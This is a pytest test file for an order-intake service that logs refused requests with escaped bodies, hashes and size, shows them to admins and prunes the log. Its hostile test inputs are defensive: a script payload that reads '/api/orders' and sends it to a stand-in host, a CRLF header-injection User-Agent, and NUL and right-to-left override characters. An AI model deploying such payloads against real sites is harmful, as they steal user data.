"""Refused requests are not kept: a wrong signature, an unknown channel or a wrong quick-order
link stores no body and makes no inbox message; it is logged (table + app log) with size,
SHA-256 and the first 1 KiB escaped; admins read the log on the intake page and in the API; a
periodic job keeps the table bounded; messages stored as "rejected" before stay readable."""

from __future__ import annotations

import hashlib
import logging
import time
from datetime import timedelta

import pytest
from django.test import Client

from orderhub.celery import periodic_jobs
from orderhub.core import clock
from orderhub.intake import services
from orderhub.intake.models import InboundMessage, RefusedRequest
from orderhub.intake.services.refusals import escape_head, escape_text, refusals_prune
from tests.api.conftest import api_as  # noqa: F401  (fixture)
from tests.web.test_pages import login

pytestmark = pytest.mark.django_db


@pytest.fixture
def channel(master, intake_actor):
    services.channel_save(code="miniprogram", secret="s3cret", window_seconds=300, actor=intake_actor)
    return master


def test_escaping_makes_any_body_one_safe_line():
    raw = b"ok \x00\x1b[31mred\r\nX-Forged: 1\t\\ \xe2\x80\xae gnp.exe \xff\xfe end \xe8\xae\xa2\xe5\x8d\x95"
    text = escape_text(raw.decode("utf-8", errors="surrogateescape"))
    assert text == "ok \\x00\\x1b[31mred\\r\\nX-Forged: 1\\t\\\\ \\u202e gnp.exe \\xff\\xfe end 订单"
    assert all(ch.isprintable() for ch in text)
    head = escape_head(b"a" * 5000)
    assert head == "a" * 1024
    cut = escape_head("订".encode() * 400)  # 1,200 bytes: the last character is cut in the middle
    assert cut.startswith("订" * 341) and cut.endswith("\\xe8") and len(cut.encode()) < 1100


def test_a_hostile_unsigned_body_is_logged_not_stored(channel, caplog):
    body = b"<script>fetch('/api/orders').then(r=>r.text()).then(t=>new Image().src='//x/?'+t)</script>\n" * 40
    with caplog.at_level(logging.WARNING, logger="orderhub.intake.refused"):
        resp = Client().post("/api/intake/miniprogram", data=body, content_type="text/html",
                             HTTP_USER_AGENT="curl/8\r\nX-Evil: 1", REMOTE_ADDR="203.0.113.9")
    assert resp.status_code == 401 and set(resp.json()) == {"code", "message"}
    assert not InboundMessage.objects.exists()
    row = RefusedRequest.objects.get()
    assert (row.ip, row.channel, row.reason, row.content_type) == ("203.0.113.9", "miniprogram",
                                                                   "signature_missing", "text/html")
    assert row.size == len(body) and row.sha256 == hashlib.sha256(body).hexdigest()
    assert len(row.head) < 1200 and row.head.startswith("<script>fetch(") and "\n" not in row.head
    assert row.user_agent == "curl/8\\r\\nX-Evil: 1"
    line = next(r.getMessage() for r in caplog.records if r.name == "orderhub.intake.refused")
    assert "ip=203.0.113.9" in line and f"sha256={row.sha256}" in line and f"size={len(body)}" in line
    assert "\n" not in line and "reason=signature_missing" in line


def test_unknown_channel_with_a_nul_in_its_name_is_logged(master):
    resp = Client().post("/api/intake/no%00such", data=b"{}", content_type="application/json")
    assert resp.status_code == 404
    row = RefusedRequest.objects.get()
    assert row.reason == "unknown_channel" and row.channel == "no\\x00such"
    assert not InboundMessage.objects.exists()


def test_wrong_quick_order_links_store_nothing_in_the_api_and_on_the_page(master):
    body = '{"item": "M8X30-HEX-88", "due_date": "2026-12-20", "remark": "加急\\n"}'.encode()
    resp = Client().post("/api/intake/quick/qo_guessed-token", data=body, content_type="application/json")
    assert resp.status_code == 404 and set(resp.json()) == {"code", "message"}
    page = Client().post("/q/qo_guessed-token", {"item": "M8X30-HEX-88", "due_date": "2026-12-20"})
    assert page.status_code == 404
    assert not InboundMessage.objects.exists()
    api_row, page_row = RefusedRequest.objects.order_by("pk")
    assert (api_row.kind, api_row.reason, api_row.channel) == ("quick", "unknown_link", "quick")
    assert api_row.sha256 == hashlib.sha256(body).hexdigest() and "qo_guessed" in api_row.detail
    assert "M8X30-HEX-88" in page_row.head and "\\r\\n" in page_row.head and page_row.size > 0


def test_admins_read_refused_requests_on_the_intake_page_and_in_the_api(channel, api_as):  # noqa: F811
    Client().post("/api/intake/miniprogram", data=b"<b>x</b>", content_type="text/html")
    ts = str(int(time.time()))
    Client().post("/api/intake/miniprogram", data=b"{}", content_type="application/json",
                  headers={"X-OrderHub-Timestamp": ts, "X-OrderHub-Signature": "sha256=" + "0" * 64})
    page = login("admin").get("/intake/refused/")
    html = page.content.decode()
    assert page.status_code == 200 and "拒收的请求" in html and "缺少签名" in html and "签名不匹配" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "<b>x</b>" not in html
    assert 'data-testid="refused-link"' in login("admin").get("/intake/").content.decode()
    assert 'data-testid="refused-link"' not in login("planner").get("/intake/").content.decode()
    assert login("planner").get("/intake/refused/").status_code == 403
    listed = api_as("admin").get("/api/intake/refused").json()
    assert listed["count"] == 2 and [i["reason"] for i in listed["items"]] == ["bad_signature", "signature_missing"]
    assert listed["items"][1]["reason_label"] and listed["items"][1]["head"] == "<b>x</b>"
    assert api_as("admin").get("/api/intake/refused", reason="bad_signature").json()["count"] == 1
    assert api_as("service").get("/api/intake/refused").status_code == 403
    assert Client().get("/api/intake/refused").status_code == 401


def test_the_periodic_job_bounds_the_log_by_age_and_rows(master, settings):
    settings.ORDERHUB_REFUSED_KEEP_DAYS, settings.ORDERHUB_REFUSED_MAX_ROWS = 30, 5
    now = clock.now()
    for days in (40, 31, 2, 1, 0, 0, 0, 0, 0):
        with clock.frozen(now - timedelta(days=days)):
            services.refusal_record(kind="webhook", channel="x", reason="bad_signature", detail="", body=b"x")
    job = {j.name: j for j in periodic_jobs()}["intake.prune_refused"]
    job.fn()
    kept = list(RefusedRequest.objects.order_by("received_at").values_list("received_at", flat=True))
    assert len(kept) == 5 and all(now - at < timedelta(days=2) for at in kept)  # old ones and the oldest recent one
    assert refusals_prune() == 0


def test_messages_stored_as_rejected_before_stay_readable(master, intake_actor, api_as):  # noqa: F811
    old = services.inbound_receive(channel="miniprogram", kind="webhook", payload=b"<x>", actor=intake_actor,
                                   status=InboundMessage.Status.REJECTED,
                                   errors=[{"code": "bad_signature", "message": "old"}])
    got = api_as("service").get(f"/api/intake/messages/{old.pk}").json()
    assert got["status"] == "rejected" and got["status_label"]
    assert login("service").get(f"/intake/{old.pk}/").status_code == 200
